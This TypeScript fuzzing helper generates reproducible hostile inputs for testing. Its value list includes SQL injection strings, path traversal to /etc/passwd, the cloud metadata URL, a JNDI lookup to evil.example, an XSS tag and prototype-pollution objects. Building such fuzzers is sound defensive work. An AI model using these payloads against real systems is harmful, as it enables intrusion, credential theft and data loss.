import { createRandom, pickFrom } from './random.ts';

const cursor = (...parts: unknown[]) => Buffer.from(JSON.stringify(parts)).toString('base64url');
const uuid = '019bd5a3-1111-7111-8111-111111111111';

/** Hostile values, the same for the same seed. */
export function createFuzz(seed: number) {
  const next = createRandom(seed);
  const pick = <T>(from: readonly T[]): T => pickFrom(next, from);
  const nested = (depth: number): unknown =>
    depth === 0 ? null : next() < 0.5 ? [nested(depth - 1)] : { a: nested(depth - 1) };

  const values: (() => unknown)[] = [
    () => null,
    () => true,
    () => 0,
    () => -1,
    () => 1e308,
    () => 2 ** 53,
    () => 0.1,
    () => '',
    () => ' ',
    () => 'x'.repeat(Math.floor(next() * 50_000)),
    () => '\u0000',
    () => `a\u0000b`,
    () => '\ud800',
    () => '\u202e\u2066 right to left',
    () => '__proto__',
    () => 'constructor',
    () => `'; DROP TABLE "Run"; --`,
    () => `" OR 1=1 --`,
    () => '%_\\',
    () => '../../../../etc/passwd',
    () => '..%2f..%2fetc%2fpasswd',
    () => 'file:///etc/passwd',
    () => 'http://169.254.169.254/latest/meta-data',
    () => '$\u007bjndi:ldap://evil.example/a}',
    () => '{{run.id}}',
    () => '<script>alert(1)</script>',
    () => '0000-01-01T00:00:00Z',
    () => '9999-12-31T23:59:59Z',
    () => '+275760-09-13T00:00:00.000Z',
    () => '2026-02-30T00:00:00Z',
    () => uuid,
    () => uuid.toUpperCase(),
    () => '00000000-0000-0000-0000-000000000000',
    () => 'ffffffff-ffff-ffff-ffff-ffffffffffff',
    () => cursor('0000-01-01T00:00:00.000Z', uuid),
    () => cursor('2026-01-01T00:00:00.000Z', "' OR 1=1"),
    () => cursor(),
    () => 'bm90IGEgY3Vyc29y',
    () => [],
    () => ({}),
    () => Array.from({ length: 1000 }, () => 1),
    () => nested(50),
    () => JSON.parse('{"__proto__": {"polluted": true}}'),
    () => ({ toString: 1, valueOf: null, hasOwnProperty: 'x' }),
    () => ({ constructor: { prototype: { polluted: true } } }),
  ];
  const hostile = (): unknown => pick(values)();

  /** The value with something in it replaced, added or taken away. */
  function spoiled(value: unknown, depth = 0): unknown {
    if (next() < 0.25 || typeof value !== 'object' || value === null) return hostile();
    if (Array.isArray(value)) return value.map((item, index) => (index === 0 ? spoiled(item, depth + 1) : item));
    const entries = Object.entries(value);
    const [name, inner] = entries.length > 0 ? pick(entries) : ['a', null];
    const act = next();
    if (act < 0.15) return Object.fromEntries(entries.filter(([key]) => key !== name));
    if (act < 0.3)
      return { ...value, [pick(['__proto__', 'constructor', 'limit', 'x\u0000', 'cursor', 'wait'])]: hostile() };
    return { ...value, [name]: spoiled(inner, depth + 1) };
  }

  return { cursor, hostile, next, pick, spoiled, uuid };
}
